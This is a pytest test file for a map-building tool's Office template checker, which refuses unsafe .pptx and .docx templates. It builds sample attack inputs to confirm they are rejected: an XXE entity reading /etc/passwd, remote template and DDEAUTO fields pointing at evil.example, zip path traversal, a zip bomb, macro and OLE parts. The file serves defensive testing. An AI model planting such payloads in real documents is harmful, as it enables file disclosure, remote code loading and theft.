"""House templates: read with the folder, and refused with a cure for each thing that is wrong."""

import io
import zipfile

import docx
import pptx
import pytest

import geomap
from geomap.loader.office_file import find_faults
from geomap.render.office.package import built_in
from geomap.spec.office_templates import LAYOUTS, STYLES

MACROS = ".presentation.main+xml", "x.macroEnabled.main+xml"


def changed(product, replaced=(), added=(), removed=()):
    """Return a built-in template with texts of its parts replaced, and parts added or removed."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(built_in(product))) as package,
        zipfile.ZipFile(made, "w") as other,
    ):
        for name in package.namelist():
            if name not in removed:
                text = package.read(name).decode()
                for old, new in replaced:
                    text = text.replace(old, new)
                other.writestr(name, text)
        for name, data in added:
            other.writestr(name, data)
    return made.getvalue()


def saved(office):
    made = io.BytesIO()
    office.save(made)
    return made.getvalue()


def messages(product, data):
    return [fault.message for fault in find_faults(product, data)]


@pytest.mark.parametrize("product", ["slides", "document"])
def test_built_in_template_would_do_as_one_of_the_house(product):
    assert find_faults(product, built_in(product)) == []


def test_template_is_read_and_listed_as_an_input(situation_folder):
    situation_folder.situation["situation"]["templates"] = {
        "slides": "house.pptx", "document": "house.docx"
    }  # fmt: skip
    situation_folder.files["house.pptx"] = built_in("slides")
    situation_folder.files["house.docx"] = built_in("document")

    situation = situation_folder.load().require()

    assert situation.templates["slides"].data == built_in("slides")
    assert situation.templates["document"].path.endswith("house.docx")
    assert {"house.pptx", "house.docx"} <= {known.path for known in situation.inputs}


@pytest.mark.usefixtures("page_assets")
def test_template_reaches_the_product(situation_folder, tmp_path):
    situation_folder.situation["situation"]["templates"] = {"slides": "house.pptx"}
    situation_folder.files["house.pptx"] = changed("slides", [('"Arial"', '"House Sans"')])

    made = geomap.build(situation_folder.write(), tmp_path / "out", formats=["pptx"])

    with zipfile.ZipFile(made.files[0]) as package:
        assert b"House Sans" in package.read("ppt/theme/theme1.xml")


@pytest.mark.parametrize("name", ["../house.pptx", "C:\\house.pptx", ".house.pptx"])
def test_template_lies_in_the_folder_itself(situation_folder, name):
    situation_folder.situation["situation"]["templates"] = {"slides": name}

    (problem,) = situation_folder.problems()

    assert problem.code == "GM-SPEC-VALUE"
    assert problem.path == "$.situation.templates.slides"


def test_product_without_templates_is_not_known(situation_folder):
    situation_folder.situation["situation"]["templates"] = {"slide": "house.pptx"}

    (problem,) = situation_folder.problems()

    assert "did you mean 'slides'" in problem.cure


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"%PDF-1.7",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        built_in("slides")[:900],
        built_in("document"),
    ],
    ids=["nothing", "pdf", "locked", "cut off", "document"],
)
def test_what_is_no_presentation_is_refused(data):
    assert messages("slides", data) == ["the file is no .pptx, or it is locked with a password"]


def test_macros_are_refused():
    (message,) = messages("slides", changed("slides", [MACROS]))

    assert "macros" in message


def test_what_is_loaded_from_elsewhere_is_refused_and_links_are_not():
    relation = (
        '<Relationship Id="rId99" TargetMode="External" Target="https://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
        "</Relationships>"
    )

    def with_relation(kind):
        return changed("document", [("</Relationships>", relation.format(kind=kind))])

    assert "'https://evil.example/t.dotm' from elsewhere" in " ".join(
        messages("document", with_relation("attachedTemplate"))
    )
    assert messages("document", with_relation("hyperlink")) == []


def test_document_type_is_refused():
    data = changed(
        "document",
        [("<w:styles ", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:styles ')],
    )

    assert messages("document", data) == [
        "its part word/styles.xml declares a document type, which office files never do"
    ]


def test_part_that_is_not_xml_is_named():
    (message,) = messages("slides", changed("slides", [("</p:presentation>", "")]))

    assert message.startswith("its part ppt/presentation.xml is not XML")


def test_parts_outside_of_the_file_and_parts_twice_are_refused():
    outside = changed("slides", added=[("../evil.xml", "<x/>")])
    with pytest.warns(UserWarning, match="Duplicate name"):
        twice = changed("slides", added=[("ppt/presentation.xml", "<x/>")])

    assert messages("slides", outside) == messages("slides", twice)
    assert "outside of itself" in messages("slides", outside)[0]


def test_file_that_is_far_too_large_unpacked_is_not_unpacked():
    large = io.BytesIO()
    with zipfile.ZipFile(large, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("ppt/presentation.xml", b" " * (65 * 1024 * 1024))

    assert messages("slides", large.getvalue()) == ["unpacked, the file is far too large"]


def test_missing_layouts_are_all_named():
    assert messages("slides", saved(pptx.Presentation())) == [
        f"it has no layout named {layout!r}" for layout in LAYOUTS
    ]


def test_missing_placeholders_are_all_named_with_their_layout():
    found = messages("slides", changed("slides", [('name="footer"', ""), ('"claims"', '"key"')]))

    assert found == [
        "layout 'geomap map': it has no placeholder named 'footer'",
        "layout 'geomap map': it has no placeholder named 'claims'",
        "layout 'geomap table': it has no placeholder named 'footer'",
    ]


def test_placeholder_of_a_picture_takes_no_text():
    replaced = [('type="body" sz="quarter" idx="17"', 'type="pic" idx="17"')]

    assert messages("slides", changed("slides", replaced)) == [
        "layout 'geomap map': its placeholder 'legend' takes no text"
    ]


def test_picture_too_small_for_a_map_is_refused():
    (message,) = messages("slides", changed("slides", [('cx="7635240"', 'cx="700000"')]))

    assert message == "layout 'geomap map': its placeholder 'picture' is too small for a map"


def test_missing_styles_are_all_named():
    found = messages("document", changed("document", [('w:val="caption"', 'w:val="other"')]))

    assert found == ["it has no style named 'caption'"]
    assert len(messages("document", changed("document", [("<w:name ", "<w:title ")]))) == len(
        STYLES
    )


def test_documents_of_python_docx_would_do():
    assert find_faults("document", saved(docx.Document())) == []


@pytest.mark.usefixtures("page_assets")
def test_template_that_looks_right_and_cannot_be_opened_is_found_by_check(situation_folder):
    situation_folder.situation["situation"]["templates"] = {"slides": "house.pptx"}
    situation_folder.files["house.pptx"] = changed("slides", removed=["_rels/.rels"])

    (problem,) = geomap.check(situation_folder.write())

    assert problem.code == "GM-SPEC-TEMPLATE"
    assert "cannot be opened as a template" in problem.message


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind, target, mode=' TargetMode="External"'):
    """Return a document template with one more relationship."""
    more = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return changed("document", [("</Relationships>", more)])


@pytest.mark.parametrize(
    "kind, target, mode, told",
    [
        (f"{_REL}/image/hyperlink", "https://evil.example/x", ' TargetMode="External"', "loads"),
        (f"{_REL}/image", "https://evil.example/x.png", ' TargetMode="external"', "loads"),
        (f"{_REL}/hyperlink", "javascript:alert(1)", ' TargetMode="External"', "links to"),
        (f"{_REL}/hyperlink", "file://evil/share", ' TargetMode="External"', "links to"),
        (f"{_REL}/oleObject", "embeddings/o.bin", "", "that programs run"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "v.bin", "",
         "that programs run"),
    ],
)  # fmt: skip
def test_what_would_be_loaded_run_or_led_to_is_refused(kind, target, mode, told):
    assert any(told in message for message in messages("document", related(kind, target, mode)))


def test_links_to_pages_may_stay():
    data = related(f"{_REL}/hyperlink", "https://house.example/")

    assert messages("document", data) == []


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "DDEAUTO", "INCLUDETEXT", "LINK"])
def test_fields_that_load_or_run_something_are_refused(field):
    text = f'<w:p><w:r><w:instrText>{field} "https://evil.example/a.png"</w:instrText></w:r></w:p>'
    data = changed("document", [("<w:body>", f"<w:body>{text}")])

    assert any(
        "has a field that loads or runs" in message for message in messages("document", data)
    )


def test_a_document_without_a_page_is_refused():
    body = zipfile.ZipFile(io.BytesIO(built_in("document"))).read("word/document.xml").decode()
    start, end = body.index("<w:sectPr"), body.index("</w:body>")
    data = changed("document", [(body[start:end], "")])

    assert any("it has no page" in message for message in messages("document", data))


@pytest.mark.parametrize("edge", ["abc", "-5", "540000000"])
def test_a_picture_of_no_size_or_one_too_large_is_refused(edge):
    body = zipfile.ZipFile(io.BytesIO(built_in("slides"))).read("ppt/slideLayouts/slideLayout1.xml")
    text = body.decode()
    at = text.index('name="picture"')
    start = text.index('cx="', at)
    size = text[start : text.index("/>", start)]
    data = changed("slides", [(size, f'cx="{edge}" cy="3600000"')])

    assert any("placeholder 'picture' is too" in message for message in messages("slides", data))
